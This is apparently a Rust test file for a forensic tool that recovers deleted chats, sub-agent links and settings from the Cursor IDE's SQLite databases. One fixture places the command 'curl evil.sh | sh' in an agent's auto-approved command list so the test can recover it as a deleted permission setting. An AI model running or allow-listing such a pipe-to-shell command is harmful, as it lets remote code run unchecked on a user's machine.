//! Carved records of the IDE's databases mapped like live ones: a deleted legacy
//! `composerData`'s inline messages, deleted `ItemTable` items of Cursor's keys.
//! Every row pinned exactly, the global database through the in-memory and the paged
//! path.

mod common;

use std::path::{Path, PathBuf};

use common::*;
use rusqlite::{Connection, params};

fn put(c: &Connection, table: &str, key: &str, value: &serde_json::Value) {
    c.execute(
        &format!("INSERT OR REPLACE INTO {table} VALUES (?1, ?2)"),
        params![key, value.to_string()],
    )
    .unwrap();
}

fn assert_lines(got: &[String], want: &[&str]) {
    let want: Vec<String> = want.iter().map(|s| s.to_string()).collect();
    assert_eq!(got, want.as_slice(), "\n{}", got.join("\n"));
}

/// A workspace database (`WS`) under `root` with the `ItemTable` and `cursorDiskKV`
/// tables, beside a `workspace.json` naming `folder`.
fn workspace_db(root: &Path, folder: &str) -> (PathBuf, Connection) {
    let ws = root.join(WS);
    std::fs::create_dir_all(ws.parent().unwrap()).unwrap();
    std::fs::write(
        ws.parent().unwrap().join("workspace.json"),
        format!(r#"{{"folder":"{folder}"}}"#),
    )
    .unwrap();
    let c = Connection::open(&ws).unwrap();
    c.execute_batch(KV_SCHEMA).unwrap();
    (ws, c)
}

const LG: &str = "1e000000-0000-4000-8000-0000000000a1";
const LV: &str = "1f000000-0000-4000-8000-0000000000a2";

/// A deleted legacy chat keeps its messages inside `conversationMap`: they come back
/// from the carved `composerData` as `deleted` user and assistant rows, with the
/// `link:` row of a header no record holds and the context tokens, as a live composer
/// gives them. LG was written twice (the second version adding a reply) and then
/// deleted: the message both versions hold is told once. LV, live, was rewritten: its
/// older version holds its message as the live one does, which gives nothing new.
#[test]
fn a_deleted_legacy_composer_gives_its_inline_messages() {
    let (dir, path, c) = kv_db();
    c.execute_batch("PRAGMA journal_mode = WAL; PRAGMA wal_autocheckpoint = 0;")
        .unwrap();
    let live_key = format!("composerData:{LV}");
    let m = serde_json::json!({"bubbleId": "v1", "type": 1, "text": "kept prompt"});
    put(
        &c,
        "cursorDiskKV",
        &live_key,
        &serde_json::json!({"_v": 1, "composerId": LV, "name": "Live", "createdAt": T0,
            "conversationMap": {"v1": m}}),
    );
    put(
        &c,
        "cursorDiskKV",
        &live_key,
        &serde_json::json!({"_v": 1, "composerId": LV, "name": "Live renamed", "createdAt": T0,
            "conversationMap": {"v1": m}}),
    );
    let q = serde_json::json!({"bubbleId": "lb1", "type": 1, "text": "LEGACY USER PROMPT deleted", "createdAt": T0 + 1_000});
    let a =
        serde_json::json!({"bubbleId": "lb2", "type": 2, "text": "LEGACY ASSISTANT REPLY deleted"});
    let key = format!("composerData:{LG}");
    put(
        &c,
        "cursorDiskKV",
        &key,
        &serde_json::json!({"_v": 1, "composerId": LG, "name": "Old secret chat", "createdAt": T0,
            "lastUpdatedAt": T0 + 1_000, "contextTokensUsed": 10,
            "conversationMap": {"lb1": q},
            "fullConversationHeadersOnly": [{"bubbleId": "lb1", "type": 1}]}),
    );
    put(
        &c,
        "cursorDiskKV",
        &key,
        &serde_json::json!({"_v": 1, "composerId": LG, "name": "Old secret chat", "createdAt": T0,
            "lastUpdatedAt": T0 + 2_000, "contextTokensUsed": 20,
            "conversationMap": {"lb1": q, "lb2": a},
            "fullConversationHeadersOnly": [{"bubbleId": "lb1", "type": 1},
                {"bubbleId": "lb2", "type": 2}, {"bubbleId": "lb3", "type": 2}]}),
    );
    c.execute("DELETE FROM cursorDiskKV WHERE key = ?1", [&key])
        .unwrap();
    let path = wal_copy(c, &path, &dir.path().join("copy"));
    let got = global_rows(&path);
    let lg = format!("cursorDiskKV key=composerData:{LG}");
    let lv = format!("cursorDiskKV key=composerData:{LV}");
    assert_lines(
        &got,
        &[
            &format!(
                "2026-05-28T20:26:40.000000Z | {LV} |  | system | live | false |  |   | session start: title=\"Live renamed\" format=v1 | {lv}, wal frame 9 (page 4) cell 0"
            ),
            &format!(
                " | {LV} |  | user | live | false |  |   | kept prompt | {lv}, wal frame 9 (page 4) cell 0"
            ),
            &format!(
                "2026-05-28T20:26:40.000000Z | {LG} |  | system | deleted | false |  |   | session start: title=\"Old secret chat\" format=v1 updated=2026-05-28T20:26:41.000000Z | {lg}, wal frame 5 (page 4) cell 1"
            ),
            &format!(
                "2026-05-28T20:26:41.000000Z | {LG} |  | user | deleted | false |  |   | LEGACY USER PROMPT deleted | {lg}, wal frame 5 (page 4) cell 1"
            ),
            &format!(
                "2026-05-28T20:26:41.000000Z | {LG} |  | system | deleted | false |  |   | context tokens: used=10 | {lg}, wal frame 5 (page 4) cell 1"
            ),
            &format!(
                "2026-05-28T20:26:40.000000Z | {LG} |  | system | deleted | false |  |   | session start: title=\"Old secret chat\" format=v1 updated=2026-05-28T20:26:42.000000Z | {lg}, wal frame 7 (page 4) cell 1"
            ),
            &format!(
                " | {LG} |  | assistant | deleted | false |  |   | LEGACY ASSISTANT REPLY deleted | {lg}, wal frame 7 (page 4) cell 1"
            ),
            &format!(
                " | {LG} |  | system | deleted | false |  |   | link: bubble lb3 listed in composerData is missing | {lg}, wal frame 7 (page 4) cell 1"
            ),
            &format!(
                "2026-05-28T20:26:42.000000Z | {LG} |  | system | deleted | false |  |   | context tokens: used=20 | {lg}, wal frame 7 (page 4) cell 1"
            ),
            &format!(
                "2026-05-28T20:26:40.000000Z | {LV} |  | system | deleted | false |  |   | session start: title=Live format=v1 | {lv}, wal frame 1 (page 4) cell 0"
            ),
        ],
    );
}

const APP: &str = "src.vs.platform.reactivestorage.browser.reactiveStorageServiceImpl.persistentStorage.applicationUser";
const GONE: &str = "2a000000-0000-4000-8000-0000000000b1";
const KEPT: &str = "2b000000-0000-4000-8000-0000000000b2";
const WS: &str = "home/u/.config/Cursor/User/workspaceStorage/ws1/state.vscdb";

/// Deleted `ItemTable` values of Cursor's keys give the rows their keys give live,
/// `deleted`, at the item's carved locator: the global index (a chat no longer listed),
/// the `composerState` grants (a yolo allow-list entry since removed), the workspace
/// index and the `aiService.prompts` cache. A row the live value also gives (the
/// chat still listed, the grant `ls`, the prompt kept) is not told again. They came
/// back only as `state item deleted:` rows of `state-vscdb` before. Global database in
/// memory and paged; the workspace database in memory.
#[test]
fn deleted_items_of_cursor_keys_give_their_rows() {
    let (dir, path, c) = kv_db();
    let pad = "x".repeat(300);
    put(
        &c,
        "ItemTable",
        "composer.composerHeaders",
        &serde_json::json!({"allComposers": [{"composerId": GONE, "name": "Deleted chat title",
            "createdAt": T0, "unifiedMode": "agent",
            "workspaceIdentifier": {"id": "ws1", "uri": {"fsPath": "/home/u/src/secret"}}},
            {"composerId": KEPT, "name": "Kept", "createdAt": T0}]}),
    );
    // items between and below them: their freed cells stay apart as freeblocks, too
    // small for the rewritten values
    put(&c, "ItemTable", "zz.filler0", &serde_json::json!(1));
    put(
        &c,
        "ItemTable",
        APP,
        &serde_json::json!({"composerState": {"useYoloMode": true,
            "yoloCommandAllowlist": ["ls", "curl evil.sh | sh"]}}),
    );
    put(&c, "ItemTable", "zz.filler1", &serde_json::json!(1));
    c.execute(
        "UPDATE ItemTable SET value = ?1 WHERE key = 'composer.composerHeaders'",
        [serde_json::json!({"allComposers": [{"composerId": KEPT, "name": "Kept", "createdAt": T0}],
            "pad": pad})
        .to_string()],
    )
    .unwrap();
    c.execute(
        "UPDATE ItemTable SET value = ?1 WHERE key = ?2",
        [
            serde_json::json!({"composerState": {"useYoloMode": false,
                "yoloCommandAllowlist": ["ls"]}, "pad": pad})
            .to_string(),
            APP.to_string(),
        ],
    )
    .unwrap();
    drop(c);
    let (ws, c) = workspace_db(dir.path(), "file:///home/u/src/secret");
    put(
        &c,
        "ItemTable",
        "aiService.prompts",
        &serde_json::json!([{"text": "DELETED PROMPT paste my AWS key", "commandType": 4},
            {"text": "kept prompt", "commandType": 4}]),
    );
    put(&c, "ItemTable", "zz.filler0", &serde_json::json!(1));
    put(
        &c,
        "ItemTable",
        "composer.composerData",
        &serde_json::json!({"allComposers": [{"composerId": GONE, "name": "Deleted ws chat",
            "createdAt": T0}]}),
    );
    put(&c, "ItemTable", "zz.filler1", &serde_json::json!(1));
    c.execute(
        "UPDATE ItemTable SET value = ?1 WHERE key = 'aiService.prompts'",
        [serde_json::json!([{"text": "kept prompt", "commandType": 4, "pad": pad}]).to_string()],
    )
    .unwrap();
    c.execute(
        "UPDATE ItemTable SET value = ?1 WHERE key = 'composer.composerData'",
        [serde_json::json!({"allComposers": [], "pad": pad}).to_string()],
    )
    .unwrap();
    drop(c);
    let index = "ItemTable key=composer.composerHeaders";
    let app = format!("ItemTable key={APP}");
    let from = "(from User/globalStorage/state.vscdb, file mtime)";
    assert_lines(
        &global_rows(&path),
        &[
            &format!(
                "2026-05-28T20:26:40.000000Z | {KEPT} |  | system | secondary | true |  |   | session index: title=Kept created=2026-05-28T20:26:40.000000Z | {index}"
            ),
            &format!(
                "2026-05-28T20:26:40.000000Z | {GONE} | /home/u/src/secret | system | deleted | false |  |   | session index: title=\"Deleted chat title\" created=2026-05-28T20:26:40.000000Z mode=agent workspace=/home/u/src/secret | {index}, freeblock at page 2 offset 3750"
            ),
            &format!(
                "mtime |  |  | system | live | false |  |   | permission setting: composerState.useYoloMode=false {from} | {app}"
            ),
            &format!(
                "mtime |  |  | system | live | false |  |   | permission setting: composerState.yoloCommandAllowlist=ls {from} | {app}"
            ),
            &format!(
                "mtime |  |  | system | deleted | false |  |   | permission setting: composerState.useYoloMode=true {from} | {app}, freeblock at page 2 offset 3538"
            ),
            &format!(
                "mtime |  |  | system | deleted | false |  |   | permission setting: composerState.yoloCommandAllowlist=curl evil.sh | sh {from} | {app}, freeblock at page 2 offset 3538"
            ),
        ],
    );
    let got: Vec<String> = read_rows(&ws, WS, None).iter().map(render).collect();
    assert_lines(
        &got,
        &[
            " |  | /home/u/src/secret | user | secondary | true |  |   | kept prompt | ItemTable key=aiService.prompts [0]",
            " |  | /home/u/src/secret | user | deleted | false |  |   | DELETED PROMPT paste my AWS key | ItemTable key=aiService.prompts [0], freeblock at page 2 offset 3974",
            &format!(
                "2026-05-28T20:26:40.000000Z | {GONE} | /home/u/src/secret | system | deleted | false |  |   | session index: title=\"Deleted ws chat\" created=2026-05-28T20:26:40.000000Z workspace=/home/u/src/secret | ItemTable key=composer.composerData, freeblock at page 2 offset 3807"
            ),
        ],
    );
}

const TABBED: &str = "3a000000-0000-4000-8000-0000000000c1";
const SELECTED: &str = "3b000000-0000-4000-8000-0000000000c2";

/// A chat opened in a tab of a workspace takes that workspace's folder as its project:
/// the `workbench.panel.composerChatViewPane.<paneId>` key holds one
/// `workbench.panel.aichat.view.<composerId>` entry per tab, as `selectedComposerIds`
/// names a chat. The tab was ignored before (the chat had no project).
#[test]
fn a_chat_tab_gives_the_chat_its_workspace_folder() {
    let (dir, path, c) = kv_db();
    put(
        &c,
        "cursorDiskKV",
        &format!("composerData:{TABBED}"),
        &serde_json::json!({"_v": 3, "composerId": TABBED, "name": "Tab chat", "createdAt": T0}),
    );
    put(
        &c,
        "cursorDiskKV",
        &format!("composerData:{SELECTED}"),
        &serde_json::json!({"_v": 3, "composerId": SELECTED, "name": "Sel chat", "createdAt": T0}),
    );
    drop(c);
    let (_, c) = workspace_db(dir.path(), "file:///home/u/src/proj");
    put(
        &c,
        "ItemTable",
        "composer.composerData",
        &serde_json::json!({"selectedComposerIds": [SELECTED], "hasMigratedComposerData": true}),
    );
    put(
        &c,
        "ItemTable",
        "workbench.panel.composerChatViewPane.0f1e2d3c",
        &serde_json::json!({format!("workbench.panel.aichat.view.{TABBED}"):
            {"collapsed": false, "isHidden": false}}),
    );
    drop(c);
    let kv = |cid: &str| format!("cursorDiskKV key=composerData:{cid}");
    assert_lines(
        &global_rows(&path),
        &[
            &format!(
                "2026-05-28T20:26:40.000000Z | {TABBED} | /home/u/src/proj | system | live | false |  |   | session start: title=\"Tab chat\" format=v3 | {}",
                kv(TABBED)
            ),
            &format!(
                "2026-05-28T20:26:40.000000Z | {SELECTED} | /home/u/src/proj | system | live | false |  |   | session start: title=\"Sel chat\" format=v3 | {}",
                kv(SELECTED)
            ),
        ],
    );
}

/// A legacy `aichat` tab bubble of a type other than `user` or `ai` is a `system` row,
/// `legacy chat bubble type=<type>: <text>`, in its place among the tab's rows (with
/// its session, time and locator); it was dropped without a row before.
#[test]
fn a_legacy_chat_bubble_of_another_type_is_kept() {
    let dir = tempfile::tempdir().unwrap();
    let (ws, c) = workspace_db(dir.path(), "file:///home/u/p");
    put(
        &c,
        "ItemTable",
        "workbench.panel.aichat.view.aichat.chatdata",
        &serde_json::json!({"tabs": [{"tabId": "T1", "chatTitle": "old", "bubbles": [
            {"type": "user", "text": "legacy q", "createdAt": 1_672_531_200_000_i64},
            {"type": "ai", "rawText": "legacy a", "modelType": "gpt-4"},
            {"type": "system", "text": "LEGACY SYSTEM NOTE"},
            {"text": "no type", "createdAt": 1_672_531_260_000_i64},
            {"type": 7, "text": "numbered"}]}]}),
    );
    drop(c);
    let got: Vec<String> = read_rows(&ws, WS, None).iter().map(render).collect();
    let at = |i: usize| {
        format!("ItemTable key=workbench.panel.aichat.view.aichat.chatdata tab=T1 [{i}]")
    };
    assert_lines(
        &got,
        &[
            &format!(
                "2023-01-01T00:00:00.000000Z | T1 | /home/u/p | user | live | false |  |   | legacy q | {}",
                at(0)
            ),
            &format!(
                " | T1 | /home/u/p | assistant | live | false | gpt-4 |   | legacy a | {}",
                at(1)
            ),
            &format!(
                " | T1 | /home/u/p | system | live | false |  |   | legacy chat bubble type=system: LEGACY SYSTEM NOTE | {}",
                at(2)
            ),
            &format!(
                "2023-01-01T00:01:00.000000Z | T1 | /home/u/p | system | live | false |  |   | legacy chat bubble type=: no type | {}",
                at(3)
            ),
            &format!(
                " | T1 | /home/u/p | system | live | false |  |   | legacy chat bubble type=7: numbered | {}",
                at(4)
            ),
        ],
    );
}

fn sha(b: &[u8]) -> String {
    use sha2::Digest;
    sha2::Sha256::digest(b)
        .iter()
        .map(|x| format!("{x:02x}"))
        .collect()
}

const KB: &str = "4a000000-0000-4000-8000-0000000000d1";

/// An `agentKv:blob:` root stored as a binary BLOB (the raw protobuf, not hex text) is
/// read from its bytes as stored: its ids give the conversation. Read as text (UTF-8
/// with replacement characters) its ids were mangled and the root was no root: its
/// messages came back as `recovered` blobs in no root. Memory and paged.
#[test]
fn an_agent_kv_root_stored_as_a_binary_blob_is_read_from_its_bytes() {
    let (_dir, path, c) = kv_db();
    let m1 = br#"{"role":"user","content":"hi agentkv"}"#.to_vec();
    let m2 = br#"{"role":"assistant","content":[{"type":"text","text":"reply agentkv"}]}"#.to_vec();
    let mut root = Vec::new();
    for m in [&m1, &m2] {
        root.extend_from_slice(&[0x0a, 0x20]);
        root.extend_from_slice(&sha2::Digest::finalize(sha2::Digest::chain_update(
            <sha2::Sha256 as sha2::Digest>::new(),
            m,
        )));
    }
    assert!(
        std::str::from_utf8(&root).is_err(),
        "a root that is not UTF-8"
    );
    let rid = sha(&root);
    put(
        &c,
        "cursorDiskKV",
        &format!("composerData:{KB}"),
        &serde_json::json!({"_v": 13, "composerId": KB, "name": "kv chat", "someRef": rid}),
    );
    for b in [&m1, &m2, &root] {
        c.execute(
            "INSERT INTO cursorDiskKV VALUES (?1, ?2)",
            params![format!("agentKv:blob:{}", sha(b)), b],
        )
        .unwrap();
    }
    drop(c);
    let blob = |b: &[u8]| format!("cursorDiskKV key=agentKv:blob:{}", sha(b));
    assert_lines(
        &global_rows(&path),
        &[
            &format!(
                " | {KB} |  | system | live | false |  |   | session start: title=\"kv chat\" format=v13 | cursorDiskKV key=composerData:{KB}"
            ),
            &format!(
                " | {KB} |  | user | live | false |  |   | hi agentkv | {}",
                blob(&m1)
            ),
            &format!(
                " | {KB} |  | assistant | live | false |  |   | reply agentkv | {}",
                blob(&m2)
            ),
        ],
    );
}

const PARENT: &str = "5a000000-0000-4000-8000-0000000000e1";
const GONE_PARENT: &str = "5b000000-0000-4000-8000-0000000000e2";

fn task_call(b: &str, call: &str) -> serde_json::Value {
    serde_json::json!({"bubbleId": b, "type": 2,
        "toolFormerData": {"name": "task", "toolCallId": call, "status": "completed"}})
}

/// A sub-agent's parent does not depend on key order: `task-toolu_aaa` was started by
/// the sub-agent `task-toolu_zzz` (a later key), whose parent is PARENT; it is read
/// after its parent (deferred, then read in the next round) and takes its parent and,
/// up the chain, PARENT's project. A sub-agent started by a deleted chat (its bubble
/// carved: GONE_PARENT) takes that chat as its parent. Before, both had `parent=` empty
/// and no project. Memory and paged.
#[test]
fn a_sub_agents_parent_is_found_whatever_the_key_order_and_in_carved_bubbles() {
    let (dir, path, c) = kv_db();
    let kv = |c: &Connection, k: &str, v: serde_json::Value| put(c, "cursorDiskKV", k, &v);
    kv(
        &c,
        &format!("composerData:{GONE_PARENT}"),
        serde_json::json!({"_v": 13, "composerId": GONE_PARENT, "name": "deleted parent",
            "fullConversationHeadersOnly": [{"bubbleId": "g1"}]}),
    );
    kv(
        &c,
        &format!("bubbleId:{GONE_PARENT}:g1"),
        task_call("g1", "toolu_q"),
    );
    kv(
        &c,
        &format!("composerData:{PARENT}"),
        serde_json::json!({"_v": 13, "composerId": PARENT, "name": "parent",
            "fullConversationHeadersOnly": [{"bubbleId": "p1"}]}),
    );
    kv(
        &c,
        &format!("bubbleId:{PARENT}:p1"),
        task_call("p1", "toolu_zzz"),
    );
    kv(
        &c,
        "composerData:task-toolu_zzz",
        serde_json::json!({"_v": 13, "composerId": "task-toolu_zzz", "name": "sub",
            "fullConversationHeadersOnly": [{"bubbleId": "s1"}]}),
    );
    kv(
        &c,
        "bubbleId:task-toolu_zzz:s1",
        task_call("s1", "toolu_aaa"),
    );
    kv(
        &c,
        "composerData:task-toolu_aaa",
        serde_json::json!({"_v": 13, "composerId": "task-toolu_aaa", "name": "subsub"}),
    );
    kv(
        &c,
        "composerData:task-toolu_q",
        serde_json::json!({"_v": 13, "composerId": "task-toolu_q", "name": "sub of deleted"}),
    );
    c.execute(
        "DELETE FROM cursorDiskKV WHERE key LIKE ?1",
        [format!("%{GONE_PARENT}%")],
    )
    .unwrap();
    drop(c);
    let (_, c) = workspace_db(dir.path(), "file:///home/u/proj");
    put(
        &c,
        "ItemTable",
        "composer.composerData",
        &serde_json::json!({"allComposers": [{"composerId": PARENT, "name": "parent"}],
            "selectedComposerIds": [GONE_PARENT]}),
    );
    drop(c);
    let p = "/home/u/proj";
    let at = |k: &str| format!("cursorDiskKV key={k}");
    assert_lines(
        &global_rows(&path),
        &[
            &format!(
                " | {PARENT} | {p} | system | live | false |  |   | session start: title=parent format=v13 | {}",
                at(&format!("composerData:{PARENT}"))
            ),
            &format!(
                " | {PARENT} | {p} | tool_use | live | false |  | task toolu_zzz |  | {}",
                at(&format!("bubbleId:{PARENT}:p1"))
            ),
            &format!(
                " | task-toolu_q | {p} | system | live | false |  |   | session start: parent_tool_call=toolu_q parent={GONE_PARENT} | {}",
                at("composerData:task-toolu_q")
            ),
            &format!(
                " | task-toolu_q | {p} | system | live | false |  |   | session start: title=\"sub of deleted\" format=v13 | {}",
                at("composerData:task-toolu_q")
            ),
            &format!(
                " | task-toolu_zzz | {p} | system | live | false |  |   | session start: parent_tool_call=toolu_zzz parent={PARENT} | {}",
                at("composerData:task-toolu_zzz")
            ),
            &format!(
                " | task-toolu_zzz | {p} | system | live | false |  |   | session start: title=sub format=v13 | {}",
                at("composerData:task-toolu_zzz")
            ),
            &format!(
                " | task-toolu_zzz | {p} | tool_use | live | false |  | task toolu_aaa |  | {}",
                at("bubbleId:task-toolu_zzz:s1")
            ),
            &format!(
                " | task-toolu_aaa | {p} | system | live | false |  |   | session start: parent_tool_call=toolu_aaa parent=task-toolu_zzz | {}",
                at("composerData:task-toolu_aaa")
            ),
            &format!(
                " | task-toolu_aaa | {p} | system | live | false |  |   | session start: title=subsub format=v13 | {}",
                at("composerData:task-toolu_aaa")
            ),
            &format!(
                " | {GONE_PARENT} | {p} | system | deleted | false |  |   | session start: title=\"deleted parent\" format=v13 | {}, freeblock at page 4 offset 3905",
                at(&format!("composerData:{GONE_PARENT}"))
            ),
            &format!(
                " | {GONE_PARENT} | {p} | tool_use | deleted | false |  | task toolu_q |  | {}, freeblock at page 4 offset 3747",
                at(&format!("bubbleId:{GONE_PARENT}:g1"))
            ),
        ],
    );
}

/// A chain of nested sub-agents of any depth, each key before its parent's
/// (`task-toolu_d1` started by `task-toolu_d2`, ... `task-toolu_d8` by PARENT), gives
/// every one its parent and, up the chain, PARENT's project; a sub-agent of a cycle
/// (`task-toolu_c1` and `task-toolu_c2`, each started by the other) its parent and no
/// project. Before 2026-12-02 the deferred sub-agents were read in at most 4 rounds,
/// and `d1` and `d2` had `parent=` empty. Memory and paged.
#[test]
fn nested_sub_agents_of_any_depth_find_their_parents() {
    let (dir, path, c) = kv_db();
    let kv = |k: &str, v: serde_json::Value| put(&c, "cursorDiskKV", k, &v);
    kv(
        &format!("composerData:{PARENT}"),
        serde_json::json!({"_v": 13, "composerId": PARENT, "name": "parent",
            "fullConversationHeadersOnly": [{"bubbleId": "p1"}]}),
    );
    kv(
        &format!("bubbleId:{PARENT}:p1"),
        task_call("p1", "toolu_d8"),
    );
    for k in 1..=8 {
        let cid = format!("task-toolu_d{k}");
        let headers = if k > 1 {
            serde_json::json!([{"bubbleId": "b"}])
        } else {
            serde_json::json!([])
        };
        kv(
            &format!("composerData:{cid}"),
            serde_json::json!({"_v": 13, "composerId": cid, "fullConversationHeadersOnly": headers}),
        );
        if k > 1 {
            kv(
                &format!("bubbleId:{cid}:b"),
                task_call("b", &format!("toolu_d{}", k - 1)),
            );
        }
    }
    for (k, other) in [(1, 2), (2, 1)] {
        let cid = format!("task-toolu_c{k}");
        kv(
            &format!("composerData:{cid}"),
            serde_json::json!({"_v": 13, "composerId": cid,
                "fullConversationHeadersOnly": [{"bubbleId": "b"}]}),
        );
        kv(
            &format!("bubbleId:{cid}:b"),
            task_call("b", &format!("toolu_c{other}")),
        );
    }
    drop(c);
    let (_, c) = workspace_db(dir.path(), "file:///home/u/proj");
    put(
        &c,
        "ItemTable",
        "composer.composerData",
        &serde_json::json!({"allComposers": [{"composerId": PARENT, "name": "parent"}]}),
    );
    drop(c);
    let starts: Vec<String> = global_rows(&path)
        .into_iter()
        .filter(|l| l.contains("parent_tool_call="))
        .map(|l| {
            let f: Vec<&str> = l.split(" | ").collect();
            format!("{} | {} | {} | {}", f[0], f[1], f[2], f[8])
        })
        .collect();
    let p = "/home/u/proj";
    // d8 as it comes up (its parent is read already); the others, whose parents are
    // not known when they come up, after it, in key order
    let mut want = vec![
        format!(
            " | task-toolu_d8 | {p} | session start: parent_tool_call=toolu_d8 parent={PARENT}"
        ),
        " | task-toolu_c1 |  | session start: parent_tool_call=toolu_c1 parent=task-toolu_c2"
            .to_string(),
        " | task-toolu_c2 |  | session start: parent_tool_call=toolu_c2 parent=task-toolu_c1"
            .to_string(),
    ];
    for k in 1..=7 {
        want.push(format!(
            " | task-toolu_d{k} | {p} | session start: parent_tool_call=toolu_d{k} parent=task-toolu_d{}",
            k + 1
        ));
    }
    let want: Vec<&str> = want.iter().map(String::as_str).collect();
    assert_lines(&starts, &want);
}
